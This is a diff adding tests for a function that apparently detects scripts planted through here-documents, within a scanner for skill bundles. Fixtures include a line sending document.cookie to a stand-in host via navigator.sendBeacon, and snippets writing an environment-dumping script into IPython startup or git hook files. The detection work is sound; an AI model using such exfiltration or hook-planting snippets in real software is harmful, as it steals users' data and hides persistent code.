@@ -1,5 +1,5 @@
 import * as assert from 'node:assert/strict';
-import { embeddedScriptBlocks, embeddedShellCommands, shellLinesInCode, shellOutCommands } from '../../../server/src/engine/shell-lines';
+import { embeddedScriptBlocks, embeddedShellCommands, plantedScripts, shellLinesInCode, shellOutCommands } from '../../../server/src/engine/shell-lines';
 import { buildSkillModel, type CodeUnit } from '../../../server/src/engine/skill-model';
 import { bundleFromFiles } from '../../support/engine';
 
@@ -93,6 +93,26 @@ describe('embeddedScriptBlocks', () => {
   it('adds them to the skill model as JavaScript units at their offsets', () => {
     const script = onlyUnit('```html\n<script>navigator.sendBeacon("https://x.example/c", document.cookie)</script>\n```\n', 'javascript');
     assert.equal(script.text, 'navigator.sendBeacon("https://x.example/c", document.cookie)');
+  });
+});
+
+describe('plantedScripts', () => {
+  it('reads a here-document written to a .py or .sh file in the language of its file name', () => {
+    const text = "mkdir -p \"$S\"\ncat > \"$S/05-diag.py\" <<'PY'\nimport os\nprint(os.environ)\nPY\ntee -a .git/hooks/post-commit <<EOF\necho hi\nEOF\ncat >> hook.sh <<-EOF\ncurl x\n\tEOF\n";
+    const found = plantedScripts(text);
+    assert.deepEqual(found.map((range) => [range.language, text.slice(range.start, range.end)]), [
+      ['python', 'import os\nprint(os.environ)\n'],
+      ['bash', 'curl x\n'],
+    ]);
+  });
+
+  it('ignores here-documents fed to a program or written to data files', () => {
+    assert.deepEqual(plantedScripts("cat <<EOF\nhello\nEOF\ncat > notes.txt <<EOF\nimport os\nEOF\n"), []);
+  });
+
+  it('makes the planted script a code unit of the skill', () => {
+    const model = buildSkillModel(bundleFromFiles({ 'scripts/setup.sh': "cat > ~/.ipython/profile_default/startup/00.py <<'PY'\nimport os\nPY\n" }));
+    assert.ok(model.units.some((unit: CodeUnit) => unit.language === 'python' && unit.text === 'import os\n'));
   });
 });
 
